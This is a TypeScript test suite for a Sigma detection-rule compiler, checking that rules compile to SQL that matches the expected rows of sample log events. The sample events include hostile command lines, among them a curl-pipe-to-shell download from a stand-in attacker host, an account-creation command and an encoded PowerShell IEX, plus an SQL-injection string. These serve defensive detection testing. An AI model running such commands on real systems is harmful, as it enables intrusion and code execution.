/**
 * The Sigma compiler: every modifier and condition form, run as the SQL it
 * compiles to over a small table of events written here, with the exact rows
 * each must match; and every rule of ../shared/data/sigma/rules compiled and
 * prepared (skipped when that folder is absent).
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parse } from 'yaml';
import { LogDatabase } from '../../src/engine/store/database';
import { quoteIdent } from '../../src/engine/store/names';
import { compileDetection, type FieldResolver } from '../../src/engine/sigma/compile';
import { parseCondition } from '../../src/engine/sigma/condition';
import { SigmaUnsupported } from '../../src/engine/sigma/errors';
import { compileReport, IDENTITY_RESOLVER, tryCompile } from '../../src/engine/sigma/report';
import { loadSigmaRules, parseSigmaText } from '../../src/engine/sigma/rule';
import { base64Offsets, likePattern, parseSigmaString, windash } from '../../src/engine/sigma/values';
import { SHARED, tmpDir } from '../helpers';

const COLS = ['id', 'Image', 'CommandLine', 'User', 'EventID', 'DestIp', 'Parent', 'Size', 'message', 'Flag'];
const ROWS: (string | number | null)[][] = [
  [1, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami', 'alice', 4688, '10.1.2.3', 'C:\\Windows\\explorer.exe', 10, 'user alice ran whoami', 1],
  [2, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -enc SQBFAFgA', 'BOB', 1, '192.168.0.5', 'C:\\Windows\\System32\\cmd.exe', 200, 'PowerShell started', 0],
  [3, 'C:\\Tools\\100%_fake?.exe', 'C:\\Tools\\100%_fake?.exe -x', 'carol', 4688, null, null, 3000, 'percent sign in the name', null],
  [4, '/usr/bin/curl', 'curl http://evil.example/x.sh | sh', 'root', 1, '2001:db8::7', '/bin/bash', 50, 'download and run: Failed password for root', 1],
  [5, 'C:\\Windows\\System32\\net.exe', 'net user /add eve', 'alice', 4688, '10.9.9.9', 'C:\\Windows\\System32\\cmd.exe', null, 'account created', 0],
  [6, 'C:\\Windows\\System32\\whoami.exe', 'whoami.exe', 'whoami.exe', 1, '172.16.0.1', 'C:\\Windows\\System32\\whoami.exe', 7, 'same user and image', 1],
];

let db: LogDatabase;

before(async () => {
  db = await LogDatabase.create();
  db.query(`CREATE TABLE ev (${COLS.map((c) => `${quoteIdent(c)} ${c === 'id' || c === 'EventID' || c === 'Size' || c === 'Flag' ? 'INTEGER' : 'TEXT'}`).join(', ')})`);
  for (const r of ROWS) db.query(`INSERT INTO ev VALUES (${r.map(() => '?').join(', ')})`, r);
});
after(() => db.close());

const RESOLVER: FieldResolver = {
  field: (n) => (COLS.includes(n) ? quoteIdent(n) : undefined),
  keywords: () => quoteIdent('message'),
};

/** The ids of the rows a detection (YAML) matches. */
function ids(yamlText: string): number[] {
  const c = compileDetection(parse(yamlText) as Record<string, unknown>, RESOLVER);
  return db.query(`SELECT id FROM ev WHERE ${c.where} ORDER BY id`, c.params).rows.map((r) => Number(r[0]));
}

function unsupported(yamlText: string, feature: string): void {
  assert.throws(
    () => compileDetection(parse(yamlText) as Record<string, unknown>, RESOLVER),
    (e: unknown) => e instanceof SigmaUnsupported && e.feature === feature,
  );
}

describe('Sigma values', () => {
  it('reads wildcards and escapes as pySigma does', () => {
    assert.deepEqual(parseSigmaString('a*b?c'), ['a', { w: '*' }, 'b', { w: '?' }, 'c']);
    assert.deepEqual(parseSigmaString('a\\*b\\?c\\\\d\\e'), ['a*b?c\\d\\e']);
    assert.equal(likePattern(parseSigmaString('100%_x*')), '100\\%\\_x%');
  });
  it('base64offset gives the three published encodings', () => {
    // pySigma's documented example for "/bin/bash"
    assert.deepEqual(base64Offsets(Buffer.from('/bin/bash')), ['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
  });
  it('windash spells an option dash five ways', () => {
    const out = windash(parseSigmaString(' -enc')).map((v) => v.join(''));
    assert.deepEqual(out, [' -enc', ' /enc', ' \u2013enc', ' \u2014enc', ' \u2015enc']);
  });
});

describe('Sigma detection → SQL', () => {
  it('plain values: case-insensitive equality, lists ORed, maps ANDed', () => {
    assert.deepEqual(ids('sel: {User: ALICE}\ncondition: sel'), [1, 5]);
    assert.deepEqual(ids('sel: {User: [bob, carol]}\ncondition: sel'), [2, 3]);
    assert.deepEqual(ids('sel: {User: alice, EventID: 4688, Flag: 0}\ncondition: sel'), [5]);
    assert.deepEqual(ids("sel: {EventID: '4688'}\ncondition: sel"), [1, 3, 5], 'a number written as text matches an integer column');
    assert.deepEqual(ids('sel:\n  - User: bob\n  - EventID: 4688\ncondition: sel'), [1, 2, 3, 5], 'a list of maps is ORed');
  });
  it('wildcards * and ?, escaped wildcards, LIKE metacharacters taken literally', () => {
    assert.deepEqual(ids("sel: {Image: '*\\cmd.exe'}\ncondition: sel"), [1]);
    assert.deepEqual(ids("sel: {User: 'ca?ol'}\ncondition: sel"), [3]);
    assert.deepEqual(ids("sel: {Image: '*100%_fake\\?.exe'}\ncondition: sel"), [3]);
    assert.deepEqual(ids("sel: {Image: '*100%Xfake*'}\ncondition: sel"), [], '% and _ are not wildcards');
    assert.deepEqual(ids("sel: {Parent: '*'}\ncondition: sel"), [1, 2, 4, 5, 6], 'a lone * matches any value that exists');
  });
  it('contains, startswith, endswith (case-insensitive) and |all', () => {
    assert.deepEqual(ids("sel: {CommandLine|contains: WHOAMI}\ncondition: sel"), [1, 6]);
    assert.deepEqual(ids("sel: {Image|startswith: 'c:\\windows\\'}\ncondition: sel"), [1, 2, 5, 6]);
    assert.deepEqual(ids("sel: {Image|endswith: ['\\net.exe', '/curl']}\ncondition: sel"), [4, 5]);
    assert.deepEqual(ids("sel: {CommandLine|contains|all: [net, /add]}\ncondition: sel"), [5]);
    assert.deepEqual(ids("sel: {CommandLine|contains|all: [net, /del]}\ncondition: sel"), []);
  });
  it('long value lists (12 or more) run as one regular expression with the same matches', () => {
    const filler = Array.from({ length: 12 }, (_, i) => `'nothing${i}%_'`).join(', ');
    const c = compileDetection(parse(`sel: {Image|endswith: [${filler}, '\\NET.exe', '/curl']}\ncondition: sel`) as Record<string, unknown>, RESOLVER);
    assert.match(c.where, /^regexp\(\?, "Image", \?\)$/);
    assert.deepEqual(ids(`sel: {Image|endswith: [${filler}, '\\NET.exe', '/curl']}\ncondition: sel`), [4, 5]);
    assert.deepEqual(ids(`sel: {CommandLine|contains: [${filler}, 'WHOAMI']}\ncondition: sel`), [1, 6]);
    assert.deepEqual(ids(`sel: {User: [${filler}, 'ca?ol', 'BOB']}\ncondition: sel`), [2, 3]);
    assert.deepEqual(ids(`sel: {Image|contains: [${filler}, '100%_fake\\?']}\ncondition: sel`), [3], 'escaped wildcards and LIKE metacharacters stay literal');
    assert.deepEqual(ids(`sel: {User|cased: [${filler}, 'bob']}\ncondition: sel`), [], '|cased keeps case');
  });
  it('|cased is case-sensitive', () => {
    assert.deepEqual(ids('sel: {User|cased: BOB}\ncondition: sel'), [2]);
    assert.deepEqual(ids('sel: {User|cased: bob}\ncondition: sel'), []);
    assert.deepEqual(ids('sel: {message|contains|cased: PowerShell}\ncondition: sel'), [2]);
    assert.deepEqual(ids('sel: {message|contains|cased: powershell}\ncondition: sel'), []);
  });
  it('|re with and without flags, inline (?i)', () => {
    assert.deepEqual(ids("sel: {CommandLine|re: '^(cmd|net)\\.exe? '}\ncondition: sel"), [1]);
    assert.deepEqual(ids("sel: {CommandLine|re: '^(cmd|net) '}\ncondition: sel"), [5]);
    assert.deepEqual(ids("sel: {User|re: '^bob$'}\ncondition: sel"), [], 'case-sensitive by default');
    assert.deepEqual(ids("sel: {User|re|i: '^bob$'}\ncondition: sel"), [2]);
    assert.deepEqual(ids("sel: {User|re: '(?i)^bob$'}\ncondition: sel"), [2]);
    unsupported("sel: {User|re: '(?<!x'}\ncondition: sel", 'regex');
  });
  it('|cidr over IPv4 and IPv6', () => {
    assert.deepEqual(ids("sel: {DestIp|cidr: ['10.0.0.0/8', '172.16.0.0/12']}\ncondition: sel"), [1, 5, 6]);
    assert.deepEqual(ids("sel: {DestIp|cidr: '2001:db8::/32'}\ncondition: sel"), [4]);
  });
  it('|base64, |base64offset|contains, |wide|base64offset', () => {
    // "IEX" in UTF-16LE is SQBFAFgA in base64
    assert.deepEqual(ids('sel: {CommandLine|wide|base64offset|contains: IEX}\ncondition: sel'), [2]);
    assert.deepEqual(ids('sel: {CommandLine|base64offset|contains: IEX}\ncondition: sel'), []);
    db.query("INSERT INTO ev (id, CommandLine) VALUES (7, 'd2hvYW1p')");
    try {
      assert.deepEqual(ids('sel: {CommandLine|base64: whoami}\ncondition: sel'), [7]);
    } finally {
      db.query('DELETE FROM ev WHERE id = 7');
    }
  });
  it('|windash matches -, / and the Unicode dashes', () => {
    assert.deepEqual(ids("sel: {CommandLine|contains|windash: ' -add'}\ncondition: sel"), [5]);
    assert.deepEqual(ids("sel: {CommandLine|windash|contains: ' /enc'}\ncondition: sel"), [2]);
  });
  it('|exists, null values, absent fields', () => {
    assert.deepEqual(ids('sel: {DestIp|exists: false}\ncondition: sel'), [3]);
    assert.deepEqual(ids('sel: {Size|exists: true}\ncondition: sel'), [1, 2, 3, 4, 6]);
    assert.deepEqual(ids('sel: {Parent: null}\ncondition: sel'), [3]);
    assert.deepEqual(ids('sel: {NoSuchField: x}\ncondition: sel'), [], 'a field the table lacks matches nothing');
    assert.deepEqual(ids('sel: {User: alice}\nfilter: {NoSuchField: x}\ncondition: sel and not filter'), [1, 5], '…so its negation is true');
    assert.deepEqual(ids('sel: {NoSuchField|exists: false}\ncondition: sel'), [1, 2, 3, 4, 5, 6]);
    assert.deepEqual(ids('sel: {NoSuchField: null}\ncondition: sel'), [1, 2, 3, 4, 5, 6]);
  });
  it('|gt |gte |lt |lte on numbers', () => {
    assert.deepEqual(ids('sel: {Size|gt: 50}\ncondition: sel'), [2, 3]);
    assert.deepEqual(ids('sel: {Size|gte: 50}\ncondition: sel'), [2, 3, 4]);
    assert.deepEqual(ids('sel: {Size|lt: 10}\ncondition: sel'), [6]);
    assert.deepEqual(ids('sel: {Size|lte: 10}\ncondition: sel'), [1, 6]);
  });
  it('|fieldref: equal to another field, or containing / ending with it', () => {
    assert.deepEqual(ids('sel: {Image|fieldref: Parent}\ncondition: sel'), [6]);
    assert.deepEqual(ids('sel: {Image|endswith|fieldref: User}\ncondition: sel'), [6]);
    assert.deepEqual(ids('sel: {message|contains|fieldref: User}\ncondition: sel'), [1, 4]);
  });
  it('booleans compare with 1/0 and true/false', () => {
    assert.deepEqual(ids('sel: {Flag: true}\ncondition: sel'), [1, 4, 6]);
    assert.deepEqual(ids('sel: {Flag: false}\ncondition: sel'), [2, 5]);
    assert.deepEqual(ids("sel: {Flag: 'true'}\ncondition: sel"), [1, 4, 6], "'true' as text (Sysmon's Initiated: 'true') matches a boolean column");
    assert.deepEqual(ids("sel: {Flag: 'False'}\ncondition: sel"), [2, 5]);
  });
  it('keywords: full text over the message, lists ORed, |all', () => {
    assert.deepEqual(ids("keywords: ['failed password', 'ACCOUNT created']\ncondition: keywords"), [4, 5]);
    assert.deepEqual(ids("keywords: 'user * ran'\ncondition: keywords"), [1]);
    assert.deepEqual(ids("keywords:\n  '|all': [download, root]\ncondition: keywords"), [4]);
    assert.deepEqual(ids("sel: {EventID: 1}\nkeywords: [started, same]\ncondition: sel and keywords"), [2, 6]);
  });
});

describe('Sigma conditions', () => {
  const det = `
selection_a: {User: alice}
selection_b: {EventID: 1}
filter_x: {Flag: 0}
filter_y: {Image|endswith: '\\whoami.exe'}
_hidden: {User: root}
`;
  it('and, or, not with not before and before or', () => {
    assert.deepEqual(ids(det + 'condition: selection_a or selection_b and not filter_x'), [1, 4, 5, 6]);
    assert.deepEqual(ids(det + 'condition: (selection_a or selection_b) and not filter_x'), [1, 4, 6]);
    assert.deepEqual(ids(det + 'condition: not (selection_a or selection_b)'), [3]);
    assert.deepEqual(ids(det + 'condition: not not selection_a'), [1, 5]);
  });
  it('1 of / all of / N of a pattern, and them', () => {
    assert.deepEqual(ids(det + 'condition: 1 of selection_*'), [1, 2, 4, 5, 6]);
    assert.deepEqual(ids(det + 'condition: all of selection_*'), []);
    assert.deepEqual(ids(det + 'condition: selection_b and not 1 of filter_*'), [4]);
    assert.deepEqual(ids(det + 'condition: 2 of them'), [2, 5, 6]);
    assert.deepEqual(ids(det + 'condition: all of them'), []);
    assert.deepEqual(ids(det + 'condition: 1 of them'), [1, 2, 4, 5, 6], '_hidden is not one of them');
    assert.deepEqual(ids(det + 'condition: _hidden'), [4]);
  });
  it('a list of conditions is ORed', () => {
    assert.deepEqual(ids(det + 'condition: [selection_a, filter_y]'), [1, 5, 6]);
  });
  it('what it cannot read is unsupported, with the feature', () => {
    unsupported(det + 'condition: selection_a | count() > 5', 'aggregation');
    unsupported(det + 'condition: selection_a and', 'condition');
    unsupported(det + 'condition: (selection_a', 'condition');
    unsupported(det + 'condition: nothing_here', 'condition');
    unsupported('sel: {User|frobnicate: x}\ncondition: sel', 'modifier frobnicate');
    unsupported("sel: {User|expand: '%admins%'}\ncondition: sel", 'modifier expand');
    assert.deepEqual(parseCondition('a and not (b or 1 of c*)'), {
      kind: 'and',
      items: [{ kind: 'ref', name: 'a' }, { kind: 'not', item: { kind: 'or', items: [{ kind: 'ref', name: 'b' }, { kind: 'of', count: 1, pattern: 'c*' }] } }],
    });
  });
  it('values are bound, never spliced into the SQL', () => {
    const c = compileDetection(parse("sel: {User|contains: \"x' OR 1=1 --\"}\ncondition: sel") as Record<string, unknown>, RESOLVER);
    assert.ok(!c.where.includes('1=1'));
    assert.deepEqual(c.params, ["%x' OR 1=1 --%"]);
  });
});

describe('Sigma rule files', () => {
  it('reads title, level, author, references, logsource and lines of detection keys; problems are reported', () => {
    const text = 'title: T\nid: 1\nauthor: A. Person\nreferences:\n  - https://example.org/r\nlevel: HIGH\nlogsource:\n  product: Windows\n  category: process_creation\ndetection:\n  sel:\n    Image|endswith: x\n  condition: sel\n---\nnot: a rule\n';
    const { rules, problems } = parseSigmaText(text, 'f.yml');
    assert.equal(rules.length, 1);
    const r = rules[0];
    assert.equal(r.author, 'A. Person');
    assert.deepEqual(r.references, ['https://example.org/r']);
    assert.equal(r.level, 'high');
    assert.deepEqual(r.logsource, { product: 'windows', category: 'process_creation', service: undefined });
    assert.equal(r.keyLines.get('sel.Image|endswith'), 12);
    assert.equal(problems.length, 1);
    assert.equal(problems[0].line, 14, 'the line of the document (its --- marker)');
  });
  it('files and folders are searched recursively', () => {
    const dir = tmpDir();
    fs.mkdirSync(path.join(dir, 'sub'));
    fs.writeFileSync(path.join(dir, 'sub', 'r.yml'), 'title: R\ndetection:\n  sel: {a: 1}\n  condition: sel\n');
    fs.writeFileSync(path.join(dir, 'bad.yaml'), 'title: [unclosed\n');
    const set = loadSigmaRules([dir]);
    assert.equal(set.files, 2);
    assert.equal(set.rules.length, 1);
    assert.equal(set.problems.length, 1);
    assert.equal(tryCompile(set.rules[0]).ok, true);
  });
});

const RULES = path.join(SHARED, 'sigma', 'rules');
(fs.existsSync(RULES) ? describe : describe.skip)('the SigmaHQ rule set in ../shared/data', () => {
  it('compiles (at least 97%) and every compiled WHERE prepares and runs in SQLite', async function () {
    this.timeout(120000);
    const set = loadSigmaRules([RULES]);
    const report = compileReport(set.rules);
    const lines = report.unsupported.map((u) => `  ${u.feature}: ${u.rules} (e.g. ${u.example})`);
    console.log(`      Sigma: ${set.files} files, ${set.rules.length} rules, ${set.problems.length} unreadable; ${report.compiled} compiled, ${report.correlations} correlations, ${report.rules - report.compiled - report.correlations} unsupported\n${lines.join('\n')}`);
    assert.ok(report.compiled >= 0.97 * report.rules, `${report.compiled} of ${report.rules}`);
    // one table with a column for every field any rule names, and two rows: every WHERE must run
    const fields = new Set<string>(['message']);
    const outcomes = set.rules.map((r) => tryCompile(r));
    for (const o of outcomes) if (o.ok) for (const f of o.compiled.fields) if (f !== '(keywords)') fields.add(f);
    const d = await LogDatabase.create();
    try {
      // SQLite's names are case-insensitive: Status and status are one column
      const names = new Map([...fields].map((f) => [f.toLowerCase(), f]));
      d.query(`CREATE TABLE t (${[...names.values()].map((f) => quoteIdent(f)).join(', ')})`);
      d.query(`INSERT INTO t (message) VALUES ('x'), (NULL)`);
      let ran = 0;
      for (const o of outcomes) {
        if (!o.ok) continue;
        d.query(`SELECT count(*) FROM t WHERE ${o.compiled.where}`, o.compiled.params);
        ran++;
      }
      assert.equal(ran, report.compiled);
    } finally {
      d.close();
    }
    assert.ok(IDENTITY_RESOLVER.field('a b')!.startsWith('"'));
  });
});
